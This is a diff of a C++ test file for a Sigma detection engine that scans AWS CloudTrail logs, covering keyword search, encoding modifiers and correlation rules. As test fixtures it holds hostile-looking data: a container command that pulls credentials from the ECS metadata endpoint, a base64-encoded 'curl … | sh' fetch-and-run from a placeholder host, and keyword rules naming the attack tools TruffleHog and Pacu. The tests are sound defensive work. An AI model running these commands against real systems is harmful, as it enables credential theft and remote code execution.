@@ -5,12 +5,18 @@
 #include <algorithm>
 #include <cstdlib>
 #include <filesystem>
+#include <fstream>
 #include <iostream>
 #include <map>
 #include <memory>
 #include <new>
+#include <set>
 
+#include <simdjson.h>
+
+#include "detect/engine.h"
 #include "detect/event_view.h"
+#include "findings/finding.h"
 #include "ingest/reader.h"
 #include "test_support.h"
 
@@ -127,7 +133,8 @@ level: critical
   ASSERT_EQ(rules.size(), 1u);
   const Rule& r = rules[0];
   EXPECT_EQ(r.id, "0b2a5c1e-7d0f-4c7e-9a51-3e8f2d6b7c10");
-  EXPECT_EQ(r.type, "Sigma:CloudTrail/TrailLoggingStoppedBySomeone");
+  // GuardDuty grammar: the purpose from the first tactic tag, the resource from eventSource.
+  EXPECT_EQ(r.type, "DefenseEvasion:IAMUser/TrailLoggingStoppedBySomeone.Sigma");
   EXPECT_EQ(r.title.render(nullptr, {}), "Trail {logging} stopped: by someone");
   EXPECT_EQ(r.description.render(nullptr, {}), "Someone stopped {a} trail.");
   EXPECT_DOUBLE_EQ(r.severity.value, 9.5);
@@ -620,46 +627,14 @@ TEST(SigmaRefuses, Near) {
   EXPECT_HAS(err, "'near'");
 }
 
-TEST(SigmaRefuses, Correlation) {
-  std::string err = load_error(R"(title: Base
-name: base
-logsource: {product: aws, service: cloudtrail}
-detection: {sel: {eventName: ConsoleLogin}, condition: sel}
----
-title: Test Rule
-id: t-1
-correlation:
-  type: event_count
-  rules: [base]
-  group-by: [sourceIPAddress]
-  timespan: 10m
-  condition: {gte: 10}
-)");
-  expect_names_rule(err);
-  EXPECT_HAS(err, "bad.yml#2");
-  EXPECT_HAS(err, "correlation");
-  EXPECT_HAS(err, "event_count");
-}
-
-TEST(SigmaRefuses, Keywords) {
-  std::string err = detection_error("  keywords:\n    - evil\n    - bad\n  condition: keywords\n");
-  expect_names_rule(err);
-  EXPECT_HAS(err, "keyword search");
-  std::string err2 = detection_error("  kw:\n    '|all':\n      - a\n      - b\n  condition: kw\n");
-  expect_names_rule(err2);
-  EXPECT_HAS(err2, "keyword search");
-}
-
-TEST(SigmaRefuses, EachUnsupportedModifier) {
-  for (const char* m : {"windash", "base64", "base64offset", "utf16le", "utf16be", "utf16", "wide",
-                        "expand", "fieldref", "hour"}) {
+TEST(SigmaRefuses, TimeModifiers) {
+  for (const char* m : {"minute", "hour", "day", "week", "month", "year"}) {
     std::string err =
-        detection_error(std::string("  sel:\n    userAgent|") + m + ": x\n  condition: sel\n");
+        detection_error(std::string("  sel:\n    eventTime|") + m + ": 3\n  condition: sel\n");
     expect_names_rule(err);
-    EXPECT_HAS(err, std::string("modifier '") + m + "' is not supported");
+    EXPECT_HAS(err, std::string("modifier '") + m + "'");
+    EXPECT_HAS(err, "is not supported");
   }
-  std::string err = detection_error("  sel:\n    userAgent|contains|base64: x\n  condition: sel\n");
-  EXPECT_HAS(err, "modifier 'base64' is not supported");
 }
 
 TEST(SigmaRefuses, UnknownModifier) {
@@ -713,11 +688,797 @@ detection: {sel: {eventName: A}, condition: sel}
 title: Test Rule
 id: t-1
 logsource: {product: aws, service: cloudtrail}
-detection: {sel: {eventName|base64: A}, condition: sel}
+detection: {sel: {eventName|hour: A}, condition: sel}
 )",
                                   "bad.yml", &rules, &err));
   EXPECT_TRUE(rules.empty());
   EXPECT_HAS(err, "bad.yml#2: rule 'Test Rule' (t-1)");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Keyword search, object members, fieldref, expand, encodings, categories, finding types
+
+/// A NamedLists with one list, for `expand`.
+class OneList : public detect::NamedLists {
+ public:
+  OneList(std::string name, std::vector<std::string> values)
+      : name_(std::move(name)), values_(std::move(values)) {}
+  bool contains(std::string_view name, const detect::Value& v,
+                std::string* matched) const override {
+    if (name != name_ || v.kind != detect::Value::Kind::kString) return false;
+    for (const auto& x : values_) {
+      if (v.str == x) {
+        *matched = name_;
+        return true;
+      }
+    }
+    return false;
+  }
+
+ private:
+  std::string name_;
+  std::vector<std::string> values_;
+};
+
+/// Like matches(), with named lists.
+class ListEvalSink : public EvalSink {
+ public:
+  ListEvalSink(const Rule& r, const detect::NamedLists* lists)
+      : EvalSink(r), r_(r), lists_(lists) {}
+  void on_cloudtrail(const ingest::CloudTrailEvent& e) override {
+    EventView ev(e, shared_scratch());
+    std::vector<std::string> matched;
+    detect::EvalContext ctx;
+    ctx.lists = lists_;
+    ctx.matched_lists = &matched;
+    results.push_back(r_.match.eval(ev, ctx));
+  }
+
+ private:
+  const Rule& r_;
+  const detect::NamedLists* lists_;
+};
+
+bool matches_with(const Rule& r, const std::string& body, const detect::NamedLists* lists) {
+  ListEvalSink sink(r, lists);
+  ingest::Reader reader(ingest::ParseOptions{});
+  reader.read_bytes("t.json", "{\"Records\":[" + rec(body) + "]}", sink);
+  EXPECT_EQ(sink.rejects, 0) << body;
+  return sink.results.size() == 1 && sink.results[0];
+}
+
+TEST(Sigma, KeywordListSearchesTheWholeRecord) {
+  Rule r = load1("  keywords:\n    - 'TruffleHog'\n    - 'pacu*/'\n  condition: keywords\n");
+  // Case-insensitive, anywhere in the record's JSON text, wildcards inside honoured.
+  EXPECT_TRUE(matches(r, R"("eventName":"GetCallerIdentity","userAgent":"trufflehog v3.63.2")"));
+  EXPECT_TRUE(matches(r, R"("eventName":"ListUsers","userAgent":"Pacu/1.0 aws-cli")"));
+  EXPECT_TRUE(matches(r, R"("eventName":"X","requestParameters":{"note":"by TRUFFLEHOG"})"));
+  EXPECT_FALSE(matches(r, R"("eventName":"ListUsers","userAgent":"aws-cli/2.15.0")"));
+  EXPECT_TRUE(r.index_names.empty());
+}
+
+TEST(Sigma, KeywordAllScalarAndCombination) {
+  Rule all = load1("  kw:\n    '|all':\n      - StopLogging\n      - mallory\n  condition: kw\n");
+  EXPECT_TRUE(matches(
+      all, R"("eventName":"StopLogging","userIdentity":{"arn":"arn:aws:iam::1:user/mallory"})"));
+  EXPECT_FALSE(matches(
+      all, R"("eventName":"StopLogging","userIdentity":{"arn":"arn:aws:iam::1:user/alice"})"));
+  Rule one = load1("  kw: 'S3 Browser'\n  condition: kw\n");
+  EXPECT_TRUE(matches(one, R"("eventName":"ListBuckets","userAgent":"S3 Browser 11.5.7")"));
+  EXPECT_FALSE(matches(one, R"("eventName":"ListBuckets","userAgent":"S3Browser")"));
+  Rule mixed = load1(
+      "  sel:\n    eventSource: iam.amazonaws.com\n  noise:\n    - 'terraform'\n  condition: sel "
+      "and not noise\n");
+  EXPECT_TRUE(matches(mixed, R"("eventSource":"iam.amazonaws.com","userAgent":"aws-cli")"));
+  EXPECT_FALSE(matches(mixed, R"("eventSource":"iam.amazonaws.com","userAgent":"Terraform/1.6")"));
+  Rule cased = load1("  kw:\n    '|cased':\n      - Mallory\n  condition: kw\n");
+  EXPECT_TRUE(matches(cased, R"("eventName":"A","userAgent":"Mallory")"));
+  EXPECT_FALSE(matches(cased, R"("eventName":"A","userAgent":"mallory")"));
+  Rule re = load1("  kw:\n    '|re':\n      - 'AKIA[A-Z0-9]{16}'\n  condition: kw\n");
+  EXPECT_TRUE(
+      matches(re, R"("eventName":"A","userIdentity":{"accessKeyId":"AKIAIOSFODNN7EXAMPLE"})"));
+  EXPECT_FALSE(matches(re, R"("eventName":"A","userIdentity":{"accessKeyId":"ASIAXXX"})"));
+}
+
+TEST(SigmaRefuses, KeywordMisuse) {
+  std::string mixed = detection_error("  kw:\n    - 'a'\n    - {eventName: B}\n  condition: kw\n");
+  expect_names_rule(mixed);
+  EXPECT_HAS(mixed, "mixes maps and plain values");
+  EXPECT_HAS(detection_error("  kw:\n    '|cidr': 10.0.0.0/8\n  condition: kw\n"),
+             "keyword search (no field)");
+  EXPECT_HAS(detection_error("  kw:\n    - null\n  condition: kw\n"), "null cannot be used");
+}
+
+TEST(Sigma, ObjectMemberIsMatchedOnItsJsonText) {
+  Rule r = load1(
+      "  sel:\n    eventName: PutBucketVersioning\n    requestParameters|contains: "
+      "'\"Status\":\"Suspended\"'\n  condition: sel\n");
+  EXPECT_TRUE(matches(
+      r,
+      R"("eventName":"PutBucketVersioning","requestParameters":{"bucketName":"b","VersioningConfiguration":{"Status": "Suspended"}})"));
+  EXPECT_FALSE(matches(
+      r,
+      R"("eventName":"PutBucketVersioning","requestParameters":{"VersioningConfiguration":{"Status":"Enabled"}})"));
+  EXPECT_FALSE(matches(r, R"("eventName":"PutBucketVersioning","requestParameters":null)"));
+  EXPECT_FALSE(matches(r, R"("eventName":"PutBucketVersioning")"));
+  // A path below the member still reads the leaf as before.
+  Rule leaf = load1(
+      "  sel:\n    requestParameters.VersioningConfiguration.Status: suspended\n  condition: "
+      "sel\n");
+  EXPECT_TRUE(matches(
+      leaf,
+      R"("eventName":"A","requestParameters":{"VersioningConfiguration":{"Status":"Suspended"}})"));
+  Rule re =
+      load1("  sel:\n    responseElements|re: '\"publiclyAccessible\":true'\n  condition: sel\n");
+  EXPECT_TRUE(matches(
+      re, R"("eventName":"A","responseElements":{"dBInstance":{"publiclyAccessible": true}})"));
+  EXPECT_FALSE(matches(re, R"("eventName":"A","responseElements":{"publiclyAccessible":false})"));
+  // exists on a member is about the member, not its text.
+  Rule ex = load1("  sel:\n    additionalEventData|exists: true\n  condition: sel\n");
+  EXPECT_TRUE(matches(ex, R"("eventName":"A","additionalEventData":{"MFAUsed":"No"})"));
+  EXPECT_FALSE(matches(ex, R"("eventName":"A")"));
+}
+
+TEST(Sigma, ArrayInTheMiddleOfAnEcsPath) {
+  Rule r = load1(
+      "  sel:\n    requestParameters.containerDefinitions.command|contains: "
+      "'$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'\n  condition: sel\n");
+  EXPECT_TRUE(matches(
+      r,
+      R"("eventName":"RegisterTaskDefinition","requestParameters":{"containerDefinitions":[{"name":"a","command":["sh"]},{"name":"b","command":["sh","-c","curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}]})"));
+  EXPECT_FALSE(matches(
+      r,
+      R"("eventName":"RegisterTaskDefinition","requestParameters":{"containerDefinitions":[{"command":["nginx"]}]})"));
+}
+
+TEST(Sigma, FieldRef) {
+  Rule eq = load1(
+      "  sel:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: sel\n");
+  EXPECT_TRUE(matches(
+      eq,
+      R"("eventName":"A","userIdentity":{"userName":"Alice"},"requestParameters":{"userName":"alice"})"));
+  EXPECT_FALSE(matches(
+      eq,
+      R"("eventName":"A","userIdentity":{"userName":"alice"},"requestParameters":{"userName":"bob"})"));
+  EXPECT_FALSE(matches(eq, R"("eventName":"A","userIdentity":{"userName":"alice"})"));
+  Rule own = load1(
+      "  sel:\n    eventName: UpdateLoginProfile\n  self:\n    userIdentity.arn|fieldref|endswith: "
+      "requestParameters.userName\n  condition: sel and not self\n");
+  EXPECT_FALSE(matches(
+      own,
+      R"("eventName":"UpdateLoginProfile","userIdentity":{"arn":"arn:aws:iam::1:user/alice"},"requestParameters":{"userName":"alice"})"));
+  EXPECT_TRUE(matches(
+      own,
+      R"("eventName":"UpdateLoginProfile","userIdentity":{"arn":"arn:aws:iam::1:user/alice"},"requestParameters":{"userName":"bob"})"));
+  Rule cont = load1(
+      "  sel:\n    userIdentity.arn|fieldref|contains: responseElements.accessKey.userName\n  "
+      "condition: sel\n");
+  EXPECT_TRUE(matches(
+      cont,
+      R"("eventName":"CreateAccessKey","userIdentity":{"arn":"arn:aws:iam::1:user/carol"},"responseElements":{"accessKey":{"userName":"carol"}})"));
+  EXPECT_HAS(detection_error("  sel:\n    a|fieldref|re: b\n  condition: sel\n"),
+             "'fieldref' combines only with");
+}
+
+TEST(Sigma, ExpandNamesAConfiguredList) {
+  Rule r = load1(
+      "  sel:\n    eventName: ConsoleLogin\n  office:\n    sourceIPAddress|expand: "
+      "'%office_ips%'\n  condition: sel and not office\n");
+  OneList lists("office_ips", {"198.51.100.7"});
+  EXPECT_FALSE(
+      matches_with(r, R"("eventName":"ConsoleLogin","sourceIPAddress":"198.51.100.7")", &lists));
+  EXPECT_TRUE(
+      matches_with(r, R"("eventName":"ConsoleLogin","sourceIPAddress":"203.0.113.9")", &lists));
+  std::string err =
+      detection_error("  sel:\n    sourceIPAddress|expand: office\n  condition: sel\n");
+  expect_names_rule(err);
+  EXPECT_HAS(err, "one placeholder '%name%'");
+  EXPECT_HAS(detection_error("  sel:\n    a|expand: '%x%-%y%'\n  condition: sel\n"),
+             "one placeholder");
+  EXPECT_HAS(detection_error("  sel:\n    a|expand|contains: '%x%'\n  condition: sel\n"),
+             "'expand' cannot be combined");
+}
+
+TEST(Sigma, Base64AndBase64Offset) {
+  Rule plain =
+      load1("  sel:\n    requestParameters.userData|base64: '#!/bin/bash'\n  condition: sel\n");
+  EXPECT_TRUE(
+      matches(plain, R"("eventName":"A","requestParameters":{"userData":"IyEvYmluL2Jhc2g="})"));
+  EXPECT_FALSE(matches(plain, R"("eventName":"A","requestParameters":{"userData":"#!/bin/bash"})"));
+  // `curl ` at each of the three byte offsets of a longer encoded script.
+  Rule off = load1(
+      "  sel:\n    requestParameters.userData|base64offset|contains: 'curl '\n  condition: sel\n");
+  for (const char* enc :
+       {"Y3VybCBodHRwOi8vZS5leGFtcGxlL3ggfCBzaA==", "eGN1cmwgaHR0cDovL2UuZXhhbXBsZS94IHwgc2g=",
+        "eHljdXJsIGh0dHA6Ly9lLmV4YW1wbGUveCB8IHNo"}) {
+    EXPECT_TRUE(matches(
+        off, std::string(R"("eventName":"A","requestParameters":{"userData":")") + enc + "\"}"))
+        << enc;
+  }
+  EXPECT_FALSE(matches(off, R"("eventName":"A","requestParameters":{"userData":"ZWNobyBoaQ=="})"));
+  // UTF-16LE text (PowerShell -EncodedCommand style) before base64.
+  Rule wide = load1(
+      "  sel:\n    requestParameters.command|wide|base64offset|contains: whoami\n  condition: "
+      "sel\n");
+  EXPECT_TRUE(matches(
+      wide,
+      R"("eventName":"A","requestParameters":{"command":"ZQBjAGgAbwAgAHcAaABvAGEAbQBpAA=="})"));
+  EXPECT_TRUE(matches(
+      wide, R"("eventName":"A","requestParameters":{"command":"eAB5ACAAdwBoAG8AYQBtAGkA"})"));
+  EXPECT_FALSE(matches(wide, R"("eventName":"A","requestParameters":{"command":"d2hvYW1p"})"));
+  // all: every value, each through its three offsets.
+  Rule both = load1(
+      "  sel:\n    requestParameters.userData|base64offset|contains|all:\n      - 'curl '\n      - "
+      "'| sh'\n  condition: sel\n");
+  EXPECT_TRUE(matches(
+      both,
+      R"("eventName":"A","requestParameters":{"userData":"Y3VybCBodHRwOi8vZS5leGFtcGxlL3ggfCBzaA=="})"));
+  EXPECT_HAS(detection_error("  sel:\n    a|base64offset: x\n  condition: sel\n"),
+             "'base64offset' must be followed by 'contains'");
+  EXPECT_HAS(detection_error("  sel:\n    a|base64|re: x\n  condition: sel\n"),
+             "only apply to plain");
+}
+
+TEST(Sigma, Windash) {
+  Rule r = load1(
+      "  sel:\n    requestParameters.parameters|windash|contains: ' -force'\n  condition: sel\n");
+  for (const char* v :
+       {"x -force", "x /force", "x \u2013force", "x \u2014force", "x \u2015force"}) {
+    EXPECT_TRUE(matches(
+        r, std::string(R"("eventName":"A","requestParameters":{"parameters":")") + v + "\"}"))
+        << v;
+  }
+  EXPECT_FALSE(matches(r, R"("eventName":"A","requestParameters":{"parameters":"x force"})"));
+}
+
+TEST(Sigma, CloudTrailEventCategory) {
+  std::vector<Rule> rules;
+  std::string err;
+  ASSERT_TRUE(detect::load_sigma(R"(title: Mgmt
+logsource: {product: aws, service: cloudtrail, category: management}
+detection: {sel: {eventName: DeleteDetector}, condition: sel}
+)",
+                                 "c.yml", &rules, &err))
+      << err;
+  EXPECT_TRUE(matches(rules[0], R"("eventName":"DeleteDetector","eventCategory":"Management")"));
+  EXPECT_TRUE(matches(rules[0], R"("eventName":"DeleteDetector")"));  // older records
+  EXPECT_FALSE(matches(rules[0], R"("eventName":"DeleteDetector","eventCategory":"Data")"));
+  EXPECT_EQ(rules[0].index_names, (std::vector<std::string>{"deletedetector"}));
+  std::string bad = load_error(
+      "title: Test Rule\nid: t-1\nlogsource: {product: aws, service: cloudtrail, category: "
+      "process_creation}\ndetection: {sel: {a: b}, condition: sel}\n");
+  expect_names_rule(bad);
+  EXPECT_HAS(bad, "category 'process_creation' is not supported");
+}
+
+TEST(Sigma, FindingTypeInGuardDutyGrammar) {
+  std::vector<Rule> rules;
+  std::string err;
+  ASSERT_TRUE(detect::load_sigma(R"(title: Bucket copied out
+tags: [attack.t1537, attack.exfiltration]
+logsource: {product: aws, service: cloudtrail}
+detection: {sel: {eventSource: s3.amazonaws.com, eventName: PutBucketReplication}, condition: sel}
+---
+title: no tags at all
+logsource: {product: aws, service: cloudtrail}
+detection: {sel: {eventSource: [s3.amazonaws.com, ec2.amazonaws.com]}, condition: sel}
+---
+title: Lateral
+tags: [attack.lateral_movement]
+logsource: {product: aws, service: cloudtrail}
+detection: {sel: {eventSource: ec2.amazonaws.com}, condition: sel}
+)",
+                                 "t.yml", &rules, &err))
+      << err;
+  EXPECT_EQ(rules[0].type, "Exfiltration:S3/BucketCopiedOut.Sigma");
+  EXPECT_EQ(rules[1].type, "UnauthorizedAccess:IAMUser/NoTagsAtAll.Sigma");
+  EXPECT_EQ(rules[2].type, "UnauthorizedAccess:EC2/Lateral.Sigma");
+  std::string bad = load_error(R"(title: Test Rule
+id: t-1
+sentinel_type: JustAName
+logsource: {product: aws, service: cloudtrail}
+detection: {sel: {eventName: A}, condition: sel}
+)");
+  expect_names_rule(bad);
+  EXPECT_HAS(bad, "not in the grammar");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Correlations (original rules)
+
+const char* kFailedLogin = R"(title: Console login failed
+name: login_failed
+logsource: {product: aws, service: cloudtrail}
+detection:
+  sel:
+    eventName: ConsoleLogin
+    responseElements.ConsoleLogin: Failure
+  condition: sel
+level: low
+)";
+
+const char* kLoginOk = R"(title: Console login succeeded
+id: 5d0c4b8e-1111-4c2a-9e55-000000000002
+name: login_ok
+logsource: {product: aws, service: cloudtrail}
+detection:
+  sel:
+    eventName: ConsoleLogin
+    responseElements.ConsoleLogin: Success
+  condition: sel
+)";
+
+std::vector<Rule> load_text(const std::string& text) {
+  std::vector<Rule> rules;
+  std::string err;
+  EXPECT_TRUE(detect::load_sigma(text, "corr.yml", &rules, &err)) << err;
+  return rules;
+}
+
+const Rule* find_rule(const std::vector<Rule>& rules, const std::string& id) {
+  for (const auto& r : rules) {
+    if (r.id == id) return &r;
+  }
+  ADD_FAILURE() << "no rule " << id;
+  return nullptr;
+}
+
+TEST(SigmaCorrelation, EventCountIsAThreshold) {
+  auto rules = load_text(std::string(kFailedLogin) + R"(---
+title: Many failed console logins
+id: c-1
+correlation:
+  type: event_count
+  rules: login_failed
+  group-by: [sourceIPAddress]
+  timespan: 10m
+  condition: {gte: 5}
+tags: [attack.credential-access, attack.t1110]
+level: high
+)");
+  ASSERT_EQ(rules.size(), 2u);
+  const Rule* base = find_rule(rules, "login_failed");
+  const Rule* c = find_rule(rules, "c-1");
+  ASSERT_TRUE(base && c);
+  EXPECT_FALSE(base->enabled);  // generate: false (the default) silences the base rule
+  EXPECT_TRUE(c->enabled);
+  EXPECT_EQ(c->stateful.kind, detect::StatefulSpec::Kind::kThreshold);
+  EXPECT_EQ(c->stateful.threshold, 5u);
+  EXPECT_EQ(c->stateful.window_ms, 10 * 60 * 1000);
+  ASSERT_EQ(c->stateful.group_by.size(), 1u);
+  EXPECT_EQ(c->stateful.group_by[0].text, "sourceIPAddress");
+  EXPECT_EQ(c->index_names, (std::vector<std::string>{"consolelogin"}));
+  EXPECT_EQ(c->type, "CredentialAccess:IAMUser/ManyFailedConsoleLogins.Sigma");
+  EXPECT_DOUBLE_EQ(c->severity.value, 8.0);
+  EXPECT_EQ(c->source, "corr.yml#2");
+  EXPECT_TRUE(
+      matches(*c, R"("eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Failure"})"));
+  EXPECT_FALSE(
+      matches(*c, R"("eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Success"})"));
+}
+
+TEST(SigmaCorrelation, GtAddsOneAndGenerateKeepsBaseRules) {
+  // The correlation first: it may come before the rules it names.
+  auto rules = load_text(std::string(R"(title: Burst
+id: c-2
+correlation:
+  type: event_count
+  rules: [login_failed, 5d0c4b8e-1111-4c2a-9e55-000000000002]
+  group-by: userIdentity.arn
+  timespan: 1h
+  condition: {gt: 9}
+  generate: true
+---
+)") + kFailedLogin + "---\n" +
+                         kLoginOk);
+  ASSERT_EQ(rules.size(), 3u);
+  const Rule* c = find_rule(rules, "c-2");
+  ASSERT_NE(c, nullptr);
+  EXPECT_EQ(c->stateful.threshold, 10u);
+  EXPECT_EQ(c->stateful.window_ms, 3600 * 1000);
+  EXPECT_TRUE(find_rule(rules, "login_failed")->enabled);
+  EXPECT_TRUE(
+      matches(*c, R"("eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Success"})"));
+}
+
+TEST(SigmaCorrelation, ValueCountIsADistinctCount) {
+  auto rules = load_text(R"(title: Bucket listing
+name: list_objects
+logsource: {product: aws, service: cloudtrail}
+detection: {sel: {eventSource: s3.amazonaws.com, eventName: [ListObjects, GetObject]}, condition: sel}
+---
+title: One identity reads many buckets
+id: c-3
+correlation:
+  type: value_count
+  rules: [list_objects]
+  group-by: [userIdentity.arn]
+  timespan: 30s
+  condition:
+    field: requestParameters.bucketName
+    gte: 3
+)");
+  const Rule* c = find_rule(rules, "c-3");
+  ASSERT_NE(c, nullptr);
+  EXPECT_EQ(c->stateful.kind, detect::StatefulSpec::Kind::kDistinct);
+  EXPECT_EQ(c->stateful.distinct_field.text, "requestParameters.bucketName");
+  EXPECT_EQ(c->stateful.threshold, 3u);
+  EXPECT_EQ(c->stateful.window_ms, 30 * 1000);
+  EXPECT_EQ(c->type, "UnauthorizedAccess:S3/OneIdentityReadsManyBuckets.Sigma");
+}
+
+TEST(SigmaCorrelation, TemporalOrderedIsASequence) {
+  auto rules = load_text(std::string(kFailedLogin) + "---\n" + kLoginOk + R"(---
+title: Failed then successful login
+id: c-4
+correlation:
+  type: temporal_ordered
+  rules: [login_failed, login_ok]
+  group-by: [sourceIPAddress]
+  timespan: 15m
+)");
+  const Rule* c = find_rule(rules, "c-4");
+  ASSERT_NE(c, nullptr);
+  EXPECT_EQ(c->stateful.kind, detect::StatefulSpec::Kind::kSequence);
+  ASSERT_EQ(c->stateful.steps.size(), 2u);
+  EXPECT_EQ(c->stateful.step_names, (std::vector<std::string>{"login_failed", "login_ok"}));
+  EXPECT_EQ(c->stateful.window_ms, 15 * 60 * 1000);
+  EXPECT_FALSE(find_rule(rules, "login_failed")->enabled);
+  EXPECT_FALSE(find_rule(rules, "5d0c4b8e-1111-4c2a-9e55-000000000002")->enabled);
+}
+
+TEST(SigmaRefuses, CorrelationMistakes) {
+  auto corr = [](const std::string& body) {
+    return load_error(std::string(kFailedLogin) + "---\ntitle: Test Rule\nid: t-1\ncorrelation:\n" +
+                      body);
+  };
+  std::string t = corr("  type: temporal\n  rules: [login_failed]\n  timespan: 5m\n");
+  expect_names_rule(t);
+  EXPECT_HAS(t, "bad.yml#2");
+  EXPECT_HAS(t, "'temporal' (the rules in any order) is not supported");
+  EXPECT_HAS(corr("  type: event_count\n  rules: [login_failed]\n  timespan: 5m\n  condition: "
+                  "{lt: 3}\n"),
+             "condition 'lt' is not supported");
+  EXPECT_HAS(corr("  type: event_count\n  rules: [nope]\n  timespan: 5m\n  condition: {gte: 3}\n"),
+             "rule 'nope' is not a detection rule of this file");
+  EXPECT_HAS(corr("  type: event_count\n  rules: [login_failed]\n  condition: {gte: 3}\n"),
+             "'timespan' is required");
+  EXPECT_HAS(corr("  type: event_count\n  rules: [login_failed]\n  timespan: 5y\n  condition: "
+                  "{gte: 3}\n"),
+             "unit must be");
+  EXPECT_HAS(corr("  type: value_count\n  rules: [login_failed]\n  timespan: 5m\n  condition: "
+                  "{gte: 3}\n"),
+             "value_count needs condition.field");
+  EXPECT_HAS(corr("  type: event_count\n  rules: [login_failed]\n  timespan: 5m\n  aliases: {ip: "
+                  "{login_failed: sourceIPAddress}}\n  condition: {gte: 3}\n"),
+             "'aliases'");
+  EXPECT_HAS(corr("  type: temporal_ordered\n  rules: [login_failed]\n  timespan: 5m\n"),
+             "two or more rules");
+  EXPECT_HAS(corr("  type: something\n  rules: [login_failed]\n  timespan: 5m\n"),
+             "unknown type 'something'");
+  // A correlation naming a correlation (chaining) is refused.
+  std::string chained = load_error(std::string(kFailedLogin) + R"(---
+title: Inner
+name: inner
+correlation: {type: event_count, rules: [login_failed], timespan: 5m, condition: {gte: 2}}
+---
+title: Test Rule
+id: t-1
+correlation: {type: event_count, rules: [inner], timespan: 5m, condition: {gte: 2}}
+)");
+  EXPECT_HAS(chained, "rule 'inner' is not a detection rule of this file");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Through the engine
+
+class EngineSink : public ingest::EventSink {
+ public:
+  explicit EngineSink(detect::Engine* e) : engine_(e) {}
+  void on_cloudtrail(const ingest::CloudTrailEvent& e) override {
+    EventView ev(e, shared_scratch());
+    engine_->on_event(ev);
+  }
+  void on_flow(const ingest::FlowRecord&) override {}
+  void on_dns(const ingest::DnsQuery&) override {}
+  void on_guardduty(const ingest::GuardDutyFinding&) override {}
+  void on_digest(const ingest::DigestFile&) override {}
+  void on_reject(const Reject&) override { ++rejects; }
+  int rejects = 0;
+
+ private:
+  detect::Engine* engine_;
+};
+
+std::vector<findings::Finding> run_engine(std::vector<Rule> rules, const std::string& data,
+                                          const std::string& path = "t.json") {
+  std::vector<std::string> errs;
+  detect::Engine engine(std::move(rules), detect::EngineOptions{}, &errs);
+  EXPECT_TRUE(errs.empty()) << (errs.empty() ? "" : errs.front());
+  EngineSink sink(&engine);
+  ingest::Reader reader(ingest::ParseOptions{});
+  reader.read_bytes(path, data, sink);
+  EXPECT_EQ(sink.rejects, 0);
+  engine.end_of_input_object();
+  engine.finish();
+  return engine.take_findings();
+}
+
+std::string login(const std::string& time, const std::string& ip, const std::string& outcome,
+                  int n) {
+  return R"({"eventVersion":"1.08","eventTime":")" + time +
+         R"(","awsRegion":"us-east-1","eventID":"ev-)" + std::to_string(n) +
+         R"(","recipientAccountId":"111122223333","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","sourceIPAddress":")" +
+         ip +
+         R"(","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/u"},"responseElements":{"ConsoleLogin":")" +
+         outcome + R"("}})";
+}
+
+TEST(SigmaCorrelation, RunsInTheEngine) {
+  auto rules = load_text(std::string(kFailedLogin) + "---\n" + kLoginOk + R"(---
+title: Many failed console logins
+id: c-count
+correlation:
+  type: event_count
+  rules: [login_failed]
+  group-by: [sourceIPAddress]
+  timespan: 10m
+  condition: {gte: 3}
+tags: [attack.credential-access]
+---
+title: Failed then successful login
+id: c-seq
+correlation:
+  type: temporal_ordered
+  rules: [login_failed, login_ok]
+  group-by: [sourceIPAddress]
+  timespan: 15m
+  generate: true
+tags: [attack.initial-access]
+)");
+  // 203.0.113.5: three failures in two minutes, then a success (both correlations fire);
+  // 198.51.100.2: two failures an hour apart, then a success 20 minutes later (neither).
+  std::vector<std::string> recs = {
+      login("2024-03-01T10:00:00Z", "203.0.113.5", "Failure", 1),
+      login("2024-03-01T10:01:00Z", "203.0.113.5", "Failure", 2),
+      login("2024-03-01T10:02:00Z", "203.0.113.5", "Failure", 3),
+      login("2024-03-01T10:03:00Z", "203.0.113.5", "Success", 4),
+      login("2024-03-01T09:00:00Z", "198.51.100.2", "Failure", 5),
+      login("2024-03-01T10:00:00Z", "198.51.100.2", "Failure", 6),
+      login("2024-03-01T10:20:00Z", "198.51.100.2", "Success", 7),
+  };
+  std::string data = "{\"Records\":[";
+  for (std::size_t i = 0; i < recs.size(); ++i) data += (i ? "," : "") + recs[i];
+  data += "]}";
+  auto fs = run_engine(rules, data);
+  std::map<std::string, int> by_type;
+  for (const auto& f : fs) ++by_type[f.type];
+  EXPECT_EQ(by_type["CredentialAccess:IAMUser/ManyFailedConsoleLogins.Sigma"], 1);
+  EXPECT_EQ(by_type["InitialAccess:IAMUser/FailedThenSuccessfulLogin.Sigma"], 1);
+  // The base rules: login_failed is silenced by c-count (generate false) but c-seq generates.
+  int base_failed = 0, base_ok = 0;
+  for (const auto& f : fs) {
+    if (f.type == "UnauthorizedAccess:IAMUser/ConsoleLoginFailed.Sigma") base_failed += f.count;
+    if (f.type == "UnauthorizedAccess:IAMUser/ConsoleLoginSucceeded.Sigma") base_ok += f.count;
+  }
+  EXPECT_EQ(base_failed, 0);
+  EXPECT_EQ(base_ok, 2);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Real CloudTrail events from the public corpus (not ours): Panther's rule test events and the
+// OpenSearch catalogue's 840-record sample.
+
+/// The `log` objects (minified) and expected results of Panther's tests for one rule id.
+std::vector<std::pair<std::string, bool>> panther_tests(const std::string& corpus,
+                                                        const std::string& rule_id) {
+  std::vector<std::pair<std::string, bool>> out;
+  std::ifstream in(corpus +
+                   "/panther-labs__panther-analysis/_extracted/tests_AWS_CloudTrail.jsonl");
+  EXPECT_TRUE(in) << "Panther tests not found";
+  std::string line;
+  simdjson::dom::parser parser;
+  while (std::getline(in, line)) {
+    simdjson::dom::element d;
+    if (parser.parse(line).get(d) != simdjson::SUCCESS) continue;
+    std::string_view id;
+    if (d["rule_id"].get_string().get(id) != simdjson::SUCCESS || id != rule_id) continue;
+    bool expected = false;
+    simdjson::dom::element log;
+    if (d["expected_result"].get_bool().get(expected) != simdjson::SUCCESS ||
+        d["log"].get(log) != simdjson::SUCCESS) {
+      continue;
+    }
